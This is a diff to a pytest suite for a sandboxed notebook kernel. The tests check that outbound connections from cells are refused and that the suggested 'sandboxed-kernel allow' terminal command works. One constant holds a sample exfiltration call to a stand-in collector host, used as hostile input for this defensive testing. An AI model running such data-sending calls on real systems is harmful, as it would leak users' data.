@@ -13,7 +13,7 @@ import pytest
 
 from tests.support.hostile import CAPTURES, CAPTURES_OF_JUPYTERLAB, CAPTURES_OF_NBCLIENT, CAPTURES_OF_OURS
 from tests.support.hostile import CAPTURES_PREAMBLE as PREAMBLE
-from tests.support.lab import Cell, Lab, Notebook, environment, wait_in_page
+from tests.support.lab import Cell, Lab, Notebook, wait_in_page
 from tests.support.servers import TcpListener
 
 CALL = "import urllib.request\nurllib.request.urlopen('http://collector.example.com/?data=everything')"
@@ -152,7 +152,7 @@ def test_a_thread_that_goes_on_is_told_in_the_cell_that_began_it(lab: Lab, go: P
         cell.shows(TOLD)
 
 
-def test_the_command_that_the_page_shows_leads_on(lab: Lab) -> None:
+def test_the_command_that_the_page_shows_leads_on(lab: Lab, tmp_path: Path) -> None:
     """As a person takes it from there: selected in the page, pasted into a terminal, the cell run again."""
     with TcpListener() as other, lab.notebook("sandboxed") as notebook:
         code = f"import socket\nsocket.create_connection(('127.0.0.1', {other.port})).close()\nprint('connected')"
@@ -160,7 +160,7 @@ def test_the_command_that_the_page_shows_leads_on(lab: Lab) -> None:
         cell.shows("refused")
         found = re.search(r"in a terminal:\s*(sandboxed-kernel allow [^\n]*?)\s*(?:\n|Or in|$)", cell.text)
         assert found is not None, cell.text
-        env = {**environment(lab.folder), "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
+        env = {"HOME": str(tmp_path), "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
         done = subprocess.run(["sh", "-c", found[1]], env=env, capture_output=True, text=True, timeout=60, check=False)
         assert done.returncode == 0, done
         assert len(other.received()) == 0
